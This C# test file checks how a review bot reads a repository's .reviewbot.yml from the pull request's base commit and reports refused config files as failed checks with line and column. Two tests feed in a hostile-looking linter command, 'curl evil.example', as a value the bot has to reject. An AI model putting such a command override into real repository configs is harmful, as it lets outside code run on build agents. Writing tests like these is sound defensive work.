using System.Net;
using System.Text.Json;
using ReviewBot.Tests.CodeHosts.GitHub.Reporting;
using ReviewBot.Tests.Infrastructure;

namespace ReviewBot.Tests.Ingest;

/// <summary>
/// A repository's .reviewbot.yml, read with git from a real repository at the pull request's base commit, on the app
/// with Azurite; the refused file's failed check on the fake GitHub.
/// </summary>
[Collection(AzuriteCollection.Name)]
public sealed class RepositoryConfigIngestTests(AzuriteFixture azurite) : IAsyncLifetime
{
    private const string Server = """
        linters:
          lint-a: { command: ["true"] }
          lint-b: { command: ["true"] }
        """;

    private readonly List<IAsyncDisposable> _owned = [];
    private readonly List<GitRepo> _repos = [];

    public Task InitializeAsync() => Task.CompletedTask;

    public async Task DisposeAsync()
    {
        foreach (var d in Enumerable.Reverse(_owned)) await d.DisposeAsync();
        foreach (var r in _repos) r.Dispose();
    }

    private GitRepo Repo(string? baseFile, string? headFile)
    {
        var baseFiles = new Dictionary<string, string> { ["a.sh"] = "echo a\n" };
        if (baseFile is not null) baseFiles[".reviewbot.yml"] = baseFile;
        var repo = GitRepo.Create(baseFiles, new Dictionary<string, string?> { ["a.sh"] = "echo b\n", [".reviewbot.yml"] = headFile });
        _repos.Add(repo);
        return repo;
    }

    private static async Task<IReadOnlyList<string>> LinterNames(TestApp app, HttpResponseMessage response)
    {
        var body = await response.Content.ReadAsStringAsync();
        Assert.True(response.StatusCode == HttpStatusCode.Accepted, body);
        var names = new List<string>();
        foreach (var id in JsonDocument.Parse(body).RootElement.GetProperty("tasks").EnumerateArray())
            names.Add((await app.Tasks.GetAsync(id.GetString()!, default))!.Linter.Name);
        return [.. names.Order(StringComparer.Ordinal)];
    }

    [Fact]
    public async Task APullRequestEditingTheFile_IsCheckedByTheBaseCommitsFile()
    {
        // The base disables lint-b; the pull request tries to disable lint-a and bring lint-b back.
        var repo = Repo(baseFile: "linters: { lint-b: { enable: false } }\n", headFile: "linters: { lint-a: { enable: false } }\n");
        var app = await TestApp.StartAsync(azurite, Server);
        _owned.Add(app);

        var names = await LinterNames(app, await app.PostDeliveryAsync("pull_request", Deliveries.PullRequest(repo)));

        Assert.Equal(["lint-a"], names);
    }

    [Fact]
    public async Task WithoutAFileAtTheBase_TheServersConfigurationApplies_EvenWhenThePullRequestAddsOne()
    {
        var repo = Repo(baseFile: null, headFile: "linters: { lint-a: { enable: false } }\n");
        var app = await TestApp.StartAsync(azurite, Server);
        _owned.Add(app);

        Assert.Equal(["lint-a", "lint-b"], await LinterNames(app, await app.PostDeliveryAsync("pull_request", Deliveries.PullRequest(repo))));
    }

    [Fact]
    public async Task ARefusedFile_FailsTheConfigCheckWithFileLineAndColumn_AndTheServersConfigurationApplies()
    {
        var repo = Repo(baseFile: "linters:\n  lint-b: { enable: false }\n  lint-a: { command: [curl, evil.example] }\n", headFile: null);
        await using var h = await GitHubReportingHarness.StartAsync(azurite, repo, Server, asApp: true, agent: false);

        var ids = await h.DeliverAsync();

        Assert.Equal(2, ids.Count); // lint-a and lint-b: the file's 'enable: false' does not apply either
        var check = Assert.Single(h.GitHub.CheckRuns(GitHubReportingHarness.Owner, GitHubReportingHarness.Name), r => r.Name == "reviewbot/config");
        Assert.Equal(("completed", "failure"), (check.Status, check.Conclusion));
        Assert.Equal(repo.HeadSha, check.HeadSha);
        Assert.Contains(".reviewbot.yml:3:13: linters.lint-a.command: 'command' decides what runs on the agents", check.OutputSummary);
        var annotation = Assert.Single(check.Annotations);
        Assert.Equal((".reviewbot.yml", 3, 13), (annotation.Path, annotation.StartLine, annotation.StartColumn));
    }

    [Fact]
    public async Task TheConfigCheck_IsPostedOncePerHeadCommit_EachPushGetsItsOwn_ARedeliveryNone()
    {
        var repo = Repo(baseFile: "linters:\n  lint-a: { command: [curl, evil.example] }\n", headFile: null);
        await using var h = await GitHubReportingHarness.StartAsync(azurite, repo, Server, asApp: true, agent: false);
        await h.DeliverAsync();
        var firstHead = repo.HeadSha;

        // The same head again (a redelivery, or the pull request reopened): no second check on it.
        await h.DeliverAsync("synchronize");
        Assert.Single(h.GitHub.CheckRuns(GitHubReportingHarness.Owner, GitHubReportingHarness.Name), r => r.Name == "reviewbot/config");

        // A push: the pull request now shows its new head's checks, so the refused file's check is there too.
        var second = await h.PushAsync(new Dictionary<string, string?> { ["a.sh"] = "echo c\n" });

        Assert.Equal(2, second.Count); // the push was ingested: its tasks exist
        var checks = h.GitHub.CheckRuns(GitHubReportingHarness.Owner, GitHubReportingHarness.Name).Where(r => r.Name == "reviewbot/config").ToList();
        Assert.Equal([firstHead, repo.HeadSha], checks.Select(c => c.HeadSha));
        Assert.All(checks, c => Assert.Equal("failure", c.Conclusion));
    }
}
